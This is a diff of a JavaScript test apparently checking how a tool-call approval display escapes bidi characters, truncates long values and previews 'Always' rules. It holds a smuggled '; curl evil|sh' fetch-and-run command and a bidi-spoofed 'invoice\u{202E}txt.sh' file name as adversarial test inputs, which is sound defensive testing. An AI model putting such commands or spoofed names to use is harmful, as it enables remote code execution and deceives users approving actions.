@@ -108,8 +108,8 @@ async function main() {
   check('a bidi character is shown as an escape', text.includes('\\u{202E}') && !text.includes('\u202e'), JSON.stringify(text));
   const digest = createHash('sha256').update(long).digest('hex').slice(0, 16);
   check('a long value is cut and its digest shown', text.includes(`${long.length} characters, SHA-256 ${digest}`) && !text.includes(long), text.slice(0, 400));
-  check('what "Always" writes is shown before it is chosen: the arguments shown, a path by its directory',
-    text.includes('Always writes') && text.includes('args.path = "/tmp/*"') && text.includes('Always, any arguments'), text);
+  check('what "Always" writes is shown before it is chosen: the arguments shown',
+    text.includes('Always writes') && text.includes('args.path = "/tmp/invoice\\u{202E}txt.sh"') && text.includes('Always, any arguments'), text);
   check('a long value shows its tail too', text.includes('; curl evil|sh') && text.includes('not shown'), text.slice(0, 600));
 
   // The audit trail streams in.
